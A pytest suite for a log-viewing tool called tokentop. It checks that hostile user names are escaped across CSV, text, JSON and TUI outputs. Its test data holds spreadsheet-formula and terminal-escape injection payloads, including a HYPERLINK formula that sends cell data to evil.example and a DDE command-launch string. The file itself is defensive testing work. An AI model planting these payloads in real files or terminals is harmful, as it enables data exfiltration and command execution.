"""Outputs safe by format: hostile names in a real log through every output.

CSV escapes control characters and neutralises formula-leading cells (OWASP: prefix ``'``); text
outputs and the TUI show TAB and every control or bidi character as an escape; JSON keeps the names
as literal data.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
import time

import pytest

NOW = time.time()
HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "fullwidth": "＝1+1",
    "tab-lead": "\t=1+1",
    "cr-lead": "\r=1+1",
    "tab-inside": "team\tA",
    "title": "\x1b]0;PWNED-TITLE\x07x",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07y",
    "link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "c1-csi": "\x9b2Jz",
    "nul-bel": "a\x00b\x07c",
    "rlo": "user\u202etxt.exe",
    "zero-width": "ad\u200bmin",
    "line-separator": "a\u2028b",
}
RAW_BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff\t]")
"""What must never reach a terminal or a CSV cell raw (TAB included; LF and CR only as line ends)."""


def log_line(i: int, user: str, model: str) -> str:
    return json.dumps({"ts": NOW - 600 + i, "user": user, "provider": "openai", "model": model,
                       "prompt_tokens": 10 + i, "completion_tokens": 1}) + "\n"


@pytest.fixture
def hostile_log(tmp_path):
    path = tmp_path / "gw.jsonl"
    path.write_text("".join(log_line(i, name, name) for i, name in enumerate(HOSTILE.values())), encoding="utf-8")
    return path


def tokentop(*args: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "tokentop", *args], capture_output=True, timeout=60)


def assert_terminal_safe(data: bytes) -> None:
    text = data.decode("utf-8")  # also: nothing that cannot be encoded was written
    body = text.replace("\r\n", "\n")
    assert "\r" not in body
    assert not RAW_BAD.search(body), repr(RAW_BAD.search(body).group())


def test_csv_escapes_controls_and_neutralises_formulas(hostile_log):
    result = tokentop("snapshot", "--csv", str(hostile_log))
    assert result.returncode == 0, result.stderr
    assert_terminal_safe(result.stdout)
    rows = list(csv.reader(io.StringIO(result.stdout.decode("utf-8"))))
    names = {row[1] for row in rows[2:] if row[0] in ("user", "model")}
    assert names, rows
    for name in names:  # no cell a spreadsheet would read as a formula
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), name
    users = {row[1] for row in rows if row[0] == "user"}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in users
    assert "'+1+cmd|' /C calc'!A0" in users and "'-2+3" in users and "'@SUM(1,2)" in users
    assert "'＝1+1" in users
    assert "\\x09=1+1" in users and "\\x0d=1+1" in users  # escaped controls first: no formula left
    assert "\\x1b]0;PWNED-TITLE\\x07x" in users and "user\\u202etxt.exe" in users


@pytest.mark.parametrize("command", ["snapshot", "check"])
def test_text_outputs_show_tab_and_controls_escaped(hostile_log, tmp_path, command):
    config = tmp_path / "tokentop.toml"  # every user over a tiny plan: check names each one in an alert
    config.write_text('[plans.tiny]\nlimit = 1\n[users]\ndefault_plan = "tiny"\n')
    result = tokentop(command, "--config", str(config), str(hostile_log))
    assert result.returncode in (0, 2), result.stderr
    assert_terminal_safe(result.stdout)
    assert_terminal_safe(result.stderr)
    text = result.stdout.decode()
    assert "team\\x09A" in text and "\\x1b]52;c;ZXZpbA==\\x07y" in text and "\\x9b2Jz" in text
    assert "a\\u2028b" in text and "ad\\u200bmin" in text


def test_tail_text_shows_tab_and_controls_escaped(hostile_log):
    result = tokentop("tail", "--from-start", "--exit-idle", "0.5", str(hostile_log))
    assert result.returncode == 0, result.stderr
    assert_terminal_safe(result.stdout)
    text = result.stdout.decode()
    assert text.count("\n") == len(HOSTILE)  # one line per event: no name broke a line
    assert "team\\x09A" in text and "\\x1b]0;PWNED-TITLE\\x07x" in text


def test_json_keeps_the_names_as_literal_data(hostile_log):
    result = tokentop("snapshot", "--json", str(hostile_log))
    assert result.returncode == 0, result.stderr
    assert b"\x1b" not in result.stdout and b"\t" not in result.stdout  # JSON escapes them
    doc = json.loads(result.stdout)
    assert set(doc["by_user"]) == set(HOSTILE.values())
    tailed = tokentop("tail", "--json", "--from-start", "--exit-idle", "0.5", str(hostile_log))
    assert [json.loads(line)["user"] for line in tailed.stdout.splitlines()] == list(HOSTILE.values())
    assert b"\x1b" not in tailed.stdout


async def test_the_tui_shows_tab_and_controls_escaped():
    from tests.ui.conftest import NOW as UI_NOW
    from tests.ui.support import ListSource, event
    from tokentop.sources.base import Batch
    from tokentop.ui.app import TokentopApp

    events = [event(i, ts=UI_NOW - 60 + i, user=name, model=name) for i, name in enumerate(HOSTILE.values())]
    app = TokentopApp([ListSource("gateway", [Batch(events=events)])], clock=lambda: UI_NOW)
    async with app.run_test(size=(200, 60)) as pilot:
        for _ in range(200):
            if app.snapshot is not None and app.snapshot.events_total == len(events):
                break
            await pilot.pause(0.02)
        await pilot.pause(0.2)
        svg = app.export_screenshot()
    shown = html.unescape(re.sub(r"<[^>]+>", "", svg)).replace("\xa0", " ")
    assert "team\\x09A" in shown and "\\x1b]0;PWNED-TITLE" in shown
    assert not RAW_BAD.search(shown), repr(RAW_BAD.search(shown).group())
